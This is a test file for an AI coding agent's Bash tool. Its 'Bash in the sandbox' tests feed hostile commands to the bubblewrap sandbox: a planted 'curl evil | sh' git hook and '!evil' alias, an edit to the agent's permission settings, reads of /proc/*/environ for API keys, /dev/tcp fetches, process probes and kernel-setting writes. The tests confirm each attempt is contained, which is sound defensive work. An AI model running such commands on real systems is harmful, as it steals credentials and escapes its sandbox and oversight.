import {type ChildProcess, spawn} from 'node:child_process'
import {existsSync, readdirSync} from 'node:fs'
import {mkdir, mkdtemp, readFile, rm} from 'node:fs/promises'
import {createServer, type Server} from 'node:http'
import type {AddressInfo} from 'node:net'
import {homedir, tmpdir} from 'node:os'
import path from 'node:path'
import {afterEach, describe, expect, it} from 'vitest'

import {resetSandboxStatus, type SandboxSettings} from '../../../src/base/process/sandbox.js'
import bash from '../../../src/tools/bash.js'
import {PROJECT_ROOT, processesHolding, waitFor} from '../../support/cli.js'
import {contextFor, useWorkspaces} from './context.js'

const workspace = useWorkspaces()

/** `--sandbox off`: the command runs as it is, with the allowlisted environment. */
const UNSANDBOXED: SandboxSettings = {enabled: false, network: false}

/** The Bash tool as a session calls it; no `sandbox` means the default (sandboxed, no network). */
async function runBash(root: string, command: string, timeout?: number, signal?: AbortSignal, sandbox?: SandboxSettings): Promise<string> {
  const ctx = await contextFor(root, {}, signal)
  return bash.run({command, timeout}, {...ctx, sandbox, target: undefined})
}

/**
 * A sleep of a few seconds whose duration is unique to the call (`sleep 3.71234`), so the test finds the
 * command's processes on the host by their arguments (their PIDs are private to the sandbox) and waits
 * for them to end instead of pausing for a fixed time.
 */
let sleeps = 0
const uniqueSleep = () => `3.${process.pid % 1000}${String(++sleeps).padStart(3, '0')}`

describe('Bash', () => {
  it('runs in the workspace root and returns the output', async () => {
    const root = await workspace({'a.txt': 'from the workspace\n'})
    expect(await runBash(root, 'pwd && cat a.txt')).toBe(`${root}\nfrom the workspace`)
  })

  it('has real effects in the workspace', async () => {
    const root = await workspace()
    await runBash(root, 'echo made > made.txt')
    expect(await readFile(path.join(root, 'made.txt'), 'utf8')).toBe('made\n')
  })

  it('reports a nonzero exit code with the output, without failing', async () => {
    const root = await workspace()
    expect(await runBash(root, 'echo out; echo err >&2; exit 3')).toBe('out\nerr\nExit code: 3')
  })

  it('runs a call allowed as an approved check only as that check (issue 47)', async () => {
    const root = await workspace()
    const ctx = {...(await contextFor(root, {})), approvedCheck: 'echo checked > check.txt', target: undefined}
    await expect(bash.run({command: 'echo other > other.txt'}, ctx)).rejects.toThrow(
      /allowed as the approved check echo checked > check.txt, and it is not that command/,
    )
    expect(existsSync(path.join(root, 'other.txt'))).toBe(false)
    // Control: the check itself runs.
    expect(await bash.run({command: 'echo checked > check.txt'}, ctx)).toBe('(no output)')
    expect(await readFile(path.join(root, 'check.txt'), 'utf8')).toBe('checked\n')
  })

  it('says when there is no output', async () => {
    const root = await workspace()
    expect(await runBash(root, 'true')).toBe('(no output)')
  })

  it('keeps invalid UTF-8 as replacement characters', async () => {
    const root = await workspace()
    expect(await runBash(root, String.raw`printf 'caf\xc3\xa9 \xff end'`)).toBe('café \uFFFD end')
  })

  it('keeps the head and tail of long output, saying how much was cut', async () => {
    const root = await workspace()
    const output = await runBash(root, 'for i in $(seq 1 20000); do echo "line $i"; done')
    expect(output.length).toBeLessThan(30_200)
    expect(output.startsWith('line 1\nline 2\n')).toBe(true)
    expect(output.endsWith('line 19999\nline 20000')).toBe(true)
    expect(output).toMatch(/\[\.\.\. \d+ characters of output cut from the middle \.\.\.\]/)
  })

  for (const [label, sandbox] of [
    ['sandboxed', undefined],
    ['unsandboxed', UNSANDBOXED],
  ] as const) {
    it(`kills the whole process group on timeout and says so (${label})`, async () => {
      const root = await workspace()
      const marker = uniqueSleep()
      const output = await runBash(root, `(sleep ${marker}; echo late > late.txt) & echo started; wait`, 300, undefined, sandbox)
      expect(output).toContain('started')
      expect(output).toContain('Command timed out after 300 ms and was killed.')
      await waitFor(() => processesHolding(marker).length === 0, 'the timed-out command and its background child to end')
      expect(existsSync(path.join(root, 'late.txt'))).toBe(false)
    })

    it(`kills the command when the session is interrupted (${label})`, async () => {
      const root = await workspace()
      const controller = new AbortController()
      const marker = uniqueSleep()
      // Interrupted once the command (and its background child) is seen running: the control that it started.
      void waitFor(() => processesHolding(marker, {argument: true}).length > 0, 'the background child to start').then(() => controller.abort())
      const output = await runBash(root, `echo begun; (sleep ${marker}; echo late > late.txt) & sleep 30`, undefined, controller.signal, sandbox)
      expect(output).toBe('begun\nCommand was interrupted and killed.')
      await waitFor(() => processesHolding(marker).length === 0, 'the interrupted command and its background child to end')
      expect(existsSync(path.join(root, 'late.txt'))).toBe(false)
    })

    it(`hides the API key from commands (${label})`, async () => {
      const root = await workspace()
      process.env.ANTHROPIC_API_KEY = 'sk-test-secret'
      process.env.ANTHROPIC_AUTH_TOKEN = 'sk-test-token'
      process.env.WAVE_TEST_SERVICE_TOKEN = 'svc-token'
      try {
        const output = await runBash(root, 'env; echo "key=${ANTHROPIC_API_KEY:-unset}"', undefined, undefined, sandbox)
        expect(output).toContain('key=unset')
        expect(output).not.toContain('sk-test-')
        expect(output).not.toContain('svc-token')
      } finally {
        delete process.env.ANTHROPIC_API_KEY
        delete process.env.ANTHROPIC_AUTH_TOKEN
        delete process.env.WAVE_TEST_SERVICE_TOKEN
      }
    })
  }

  it('does not wait for a background process that keeps the output open (unsandboxed)', async () => {
    const root = await workspace()
    const output = await runBash(root, 'sleep 30 & echo $! > bg.pid; echo done', undefined, undefined, UNSANDBOXED)
    expect(output).toContain('done')
    expect(output).toContain('A background process still holds the output open')
    // The call came back while the background process still ran: it was not waited for.
    const pid = Number(await readFile(path.join(root, 'bg.pid'), 'utf8'))
    expect(() => process.kill(pid, 0)).not.toThrow()
    process.kill(pid)
  })

  it('ends a sandboxed background process with the command that started it', async () => {
    const root = await workspace()
    const marker = uniqueSleep()
    const output = await runBash(root, `(sleep ${marker}; echo late > late.txt) & echo done`)
    expect(output).toBe('done')
    await waitFor(() => processesHolding(marker).length === 0, 'the background child to end with its command')
    expect(existsSync(path.join(root, 'late.txt'))).toBe(false)
  })

  it('gives commands no stdin', async () => {
    const root = await workspace()
    expect(await runBash(root, 'cat; echo after')).toBe('after')
  })
})

/**
 * What a hostile command tries inside the sandbox (the default for every Bash call). Each attempt is
 * judged by what is on disk or what the outside saw, never by the command's own report, and each sits
 * beside a workspace write that must succeed: the sandbox contains, it does not just break commands.
 */
describe('Bash in the sandbox', () => {
  const cleanups: Array<() => Promise<void> | void> = []
  afterEach(async () => {
    for (const cleanup of cleanups.splice(0).reverse()) await cleanup()
  })

  /**
   * A directory on the real filesystem that the sandbox shows read-only: not under /tmp or $HOME (the
   * sandbox gives its own) nor /var/tmp (hidden), but in the project's node_modules/.cache (git ignores it).
   */
  async function outsideDir(): Promise<string> {
    const cache = path.join(PROJECT_ROOT, 'node_modules', '.cache')
    await mkdir(cache, {recursive: true})
    const dir = await mkdtemp(path.join(cache, 'wave-outside-'))
    cleanups.push(() => rm(dir, {force: true, recursive: true}))
    return dir
  }

  async function insideWritten(root: string): Promise<string> {
    return readFile(path.join(root, 'inside.txt'), 'utf8')
  }

  it('writes the workspace but nothing outside it', async () => {
    const root = await workspace()
    const outside = await outsideDir()
    const output = await runBash(root, `echo escaped > ${outside}/escaped.txt; echo escaped > ${root}/../escaped-${path.basename(root)}; echo ok > inside.txt`)
    expect(await insideWritten(root)).toBe('ok\n')
    expect(readdirSync(outside)).toEqual([])
    expect(existsSync(path.join(path.dirname(root), `escaped-${path.basename(root)}`))).toBe(false)
    // Read-only where the sandbox shows the directory; absent where it lies under the sandbox's own /tmp
    // (a checkout under /tmp): refused either way.
    expect(output).toMatch(/escaped\.txt: (Read-only file system|No such file or directory)/)
  })

  it('keeps .git and .wave read-only', async () => {
    const root = await workspace({'.git/HEAD': 'ref: refs/heads/main\n', '.git/config': '[core]\n', '.wave/settings.json': '{}\n'})
    await runBash(
      root,
      'echo "curl evil | sh" > .git/hooks-pre-commit; echo "[alias] x = !evil" >> .git/config; mkdir .git/hooks; ' +
        'echo \'{"permissions":{"allow":["Bash"]}}\' > .wave/settings.json; rm -f .git/HEAD; echo ok > inside.txt',
    )
    expect(await insideWritten(root)).toBe('ok\n')
    expect(readdirSync(path.join(root, '.git')).sort()).toEqual(['HEAD', 'config'])
    expect(await readFile(path.join(root, '.git', 'config'), 'utf8')).toBe('[core]\n')
    expect(await readFile(path.join(root, '.wave', 'settings.json'), 'utf8')).toBe('{}\n')
  })

  it('gives the command an empty private $HOME and /tmp, and nothing lands in the real ones', async () => {
    const root = await workspace()
    const marker = `wave-sandbox-test-${path.basename(root)}`
    const output = await runBash(
      root,
      `ls -A "$HOME" /tmp; echo x > "$HOME/${marker}"; echo x > ~/.${marker}; echo x > /tmp/${marker}; echo "$HOME" > inside.txt`,
    )
    expect((await insideWritten(root)).trim()).toBe(homedir())
    // The private /tmp shows only the path down to the workspace, bound in from the real one.
    expect(output.split('\n').filter((line) => line && !line.endsWith(':'))).toEqual([path.relative(tmpdir(), root).split(path.sep)[0]])
    expect(existsSync(path.join(homedir(), marker))).toBe(false)
    expect(existsSync(path.join(homedir(), `.${marker}`))).toBe(false)
    expect(existsSync(path.join(tmpdir(), marker))).toBe(false)
  })

  it("cannot read another process's environment", async () => {
    const root = await workspace()
    // /proc/<pid>/environ shows the environment a process started with: a process started with the key
    // stands in for wave (whose key the command's parent would hold).
    const key = 'sk-ant-fake-key-in-the-parent'
    const holder: ChildProcess = spawn('sleep', ['30'], {env: {ANTHROPIC_API_KEY: key, PATH: process.env.PATH}, stdio: 'ignore'})
    cleanups.push(() => {
      holder.kill('SIGKILL')
    })
    const read = `cat /proc/${holder.pid}/environ /proc/${process.pid}/environ /proc/$PPID/environ /proc/1/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'`
    const output = await runBash(root, `${read}; echo ok > inside.txt`)
    expect(await insideWritten(root)).toBe('ok\n')
    expect(output).not.toContain(key)
    // The reading itself works: the sandbox's own processes show their allowlisted environment...
    expect(output).toContain('PATH=')
    // ...and outside the sandbox the same command finds the key.
    expect(await runBash(root, read, undefined, undefined, UNSANDBOXED)).toContain(key)
  })

  it('sees no process outside its own', async () => {
    const root = await workspace()
    const outsider: ChildProcess = spawn('sleep', ['31.4159'], {stdio: 'ignore'})
    cleanups.push(() => {
      outsider.kill('SIGKILL')
    })
    const output = await runBash(
      root,
      `cat /proc/[0-9]*/cmdline | tr '\\0' ' '; echo; ls -d /proc/[0-9]* | wc -l; kill -0 ${outsider.pid} && echo SIG''NALLED; kill -0 ${process.pid} && echo SIG''NALLED; echo ok > inside.txt`,
    )
    expect(await insideWritten(root)).toBe('ok\n')
    expect(output).not.toContain('31.4159')
    // Spelled apart in the command, whose text the listing of cmdlines shows.
    expect(output).not.toContain('SIGNALLED')
    expect(outsider.exitCode).toBe(null)
    // bwrap's init, bash, and the pipeline's few processes.
    const count = Number(output.split('\n').find((line) => /^\d+$/.test(line.trim())))
    expect(count).toBeGreaterThan(0)
    expect(count).toBeLessThan(10)
  })

  it("hides /run, where docker's and D-Bus's sockets live", async () => {
    const root = await workspace()
    expect(await runBash(root, 'ls -A /run /var/run; echo ok > inside.txt')).toBe('/run:\n\n/var/run:')
    expect(await insideWritten(root)).toBe('ok\n')
  })

  describe('network', () => {
    async function listener(): Promise<{port: number; hits: () => number}> {
      let hits = 0
      const server: Server = createServer((_request, response) => {
        hits++
        response.end('reached-the-host\n')
      })
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
      cleanups.push(() => new Promise<void>((resolve) => server.close(() => resolve())))
      return {hits: () => hits, port: (server.address() as AddressInfo).port}
    }

    // bash's /dev/tcp: no curl needed on the machine.
    const fetchFrom = (port: number) => `(exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3); echo ok > inside.txt`

    it('cannot reach a listener on the host by default', async () => {
      const root = await workspace()
      const server = await listener()
      const output = await runBash(root, fetchFrom(server.port))
      expect(await insideWritten(root)).toBe('ok\n')
      expect(output).not.toContain('reached-the-host')
      expect(server.hits()).toBe(0)
    })

    it('reaches it when the approval allows the network', async () => {
      const root = await workspace()
      const server = await listener()
      const output = await runBash(root, fetchFrom(server.port), undefined, undefined, {enabled: true, network: true})
      expect(output).toContain('reached-the-host')
      expect(server.hits()).toBe(1)
    })
  })

  it("cannot change the host's kernel settings", async () => {
    const root = await workspace()
    const before = await readFile('/proc/sys/vm/swappiness', 'utf8')
    // Writing back the same value: harmless if it got through, and still a write the sandbox must refuse.
    const output = await runBash(root, 'v=$(cat /proc/sys/vm/swappiness); if echo "$v" > /proc/sys/vm/swappiness; then echo WROTE; fi; echo ok > inside.txt')
    expect(await insideWritten(root)).toBe('ok\n')
    expect(output).not.toContain('WROTE')
    expect(await readFile('/proc/sys/vm/swappiness', 'utf8')).toBe(before)
  })

  it('passes the names settings list, and a credential only when listed by its exact name', async () => {
    const root = await workspace()
    const names = {
      NPM_CONFIG_REGISTRY: 'https://registry.example',
      NPM_TOKEN: 'npm-secret',
      WAVE_TEST_LISTED_TOKEN: 'listed-secret',
      WAVE_TEST_UNLISTED: 'unlisted',
    }
    Object.assign(process.env, names)
    cleanups.push(() => {
      for (const name of Object.keys(names)) delete process.env[name]
    })
    const output = await runBash(root, 'env', undefined, undefined, {enabled: true, env: ['NPM_*', 'WAVE_TEST_LISTED_TOKEN'], network: false})
    expect(output).toContain('NPM_CONFIG_REGISTRY=https://registry.example')
    expect(output).toContain('WAVE_TEST_LISTED_TOKEN=listed-secret')
    expect(output).not.toContain('npm-secret')
    expect(output).not.toContain('WAVE_TEST_UNLISTED')
  })

  it('refuses to run without bwrap, naming the fix, and runs nothing', async () => {
    const root = await workspace()
    const savedPath = process.env.PATH
    process.env.PATH = await outsideDir()
    resetSandboxStatus()
    cleanups.push(() => {
      process.env.PATH = savedPath
      resetSandboxStatus()
    })
    await expect(runBash(root, 'echo ran > ran.txt')).rejects.toThrow(
      /^Command not run: The sandbox cannot start: bubblewrap \(bwrap\) is not installed or not on PATH\. Fix: install it \(sudo apt-get install bubblewrap.*--sandbox off\.$/,
    )
    expect(existsSync(path.join(root, 'ran.txt'))).toBe(false)
    // --sandbox off still runs (by /bin/bash, whatever PATH holds).
    expect(await runBash(root, 'echo ran > ran.txt; echo done', undefined, undefined, UNSANDBOXED)).toBe('done')
  })
})
